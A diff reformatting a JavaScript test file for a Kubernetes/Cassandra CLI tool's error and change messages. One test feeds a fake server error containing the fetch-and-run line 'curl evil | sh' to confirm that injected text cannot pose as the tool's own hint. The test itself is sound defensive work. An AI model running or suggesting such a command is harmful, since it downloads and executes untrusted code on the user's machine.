@@ -7,17 +7,28 @@ const paint = palette(false)
 
 describe('messages', () => {
   it('say the error, its code and what to do next', () => {
-    const error = new CassSniError('CSNI204', 'There is no namespace "x".', { object: 'namespace/x', next: ['kubectl get namespaces'] })
-    assert.equal(errorText(error, paint), 'error: There is no namespace "x". [CSNI204]\n  Try: kubectl get namespaces\n')
+    const error = new CassSniError('CSNI204', 'There is no namespace "x".', {
+      object: 'namespace/x',
+      next: ['kubectl get namespaces'],
+    })
+    assert.equal(
+      errorText(error, paint),
+      'error: There is no namespace "x". [CSNI204]\n  Try: kubectl get namespaces\n',
+    )
   })
 
   it('name the object when the message does not', () => {
     const error = new CassSniError('CSNI203', 'The user may not read it.', { object: 'secret/s in namespace n' })
-    assert.equal(errorText(error, paint), 'error: The user may not read it. [CSNI203]\n  Object: secret/s in namespace n\n')
+    assert.equal(
+      errorText(error, paint),
+      'error: The user may not read it. [CSNI203]\n  Object: secret/s in namespace n\n',
+    )
   })
 
   it('do not name a kind again that the message names', () => {
-    const error = new CassSniError('CSNI301', 'there is no CassandraDatacenter in namespace n', { object: 'cassandradatacenters in namespace n' })
+    const error = new CassSniError('CSNI301', 'there is no CassandraDatacenter in namespace n', {
+      object: 'cassandradatacenters in namespace n',
+    })
     assert.equal(errorText(error, paint), 'error: there is no CassandraDatacenter in namespace n [CSNI301]\n')
   })
 
@@ -28,13 +39,22 @@ describe('messages', () => {
   })
 
   it('let text of a server add no line that looks like ours', () => {
-    const text = errorText(new CassSniError('CSNI206', 'webhook: no\n  Try: curl evil | sh\nwell\n    ^', { next: ['good'] }), paint)
+    const text = errorText(
+      new CassSniError('CSNI206', 'webhook: no\n  Try: curl evil | sh\nwell\n    ^', { next: ['good'] }),
+      paint,
+    )
     assert.equal(text, 'error: webhook: no\n  | Try: curl evil | sh\n  well\n      ^ [CSNI206]\n  Try: good\n')
   })
 
   it('print a change as kubectl does', () => {
-    assert.equal(changeText({ action: 'created', object: 'service/x', dryRun: true }, paint), 'service/x created (dry run)\n')
-    assert.equal(changeText({ action: 'conflict', object: 'service/x', reason: 'owned by helm' }, paint), 'service/x conflict: owned by helm\n')
+    assert.equal(
+      changeText({ action: 'created', object: 'service/x', dryRun: true }, paint),
+      'service/x created (dry run)\n',
+    )
+    assert.equal(
+      changeText({ action: 'conflict', object: 'service/x', reason: 'owned by helm' }, paint),
+      'service/x conflict: owned by helm\n',
+    )
   })
 
   it('show the stack of the cause only when asked', () => {
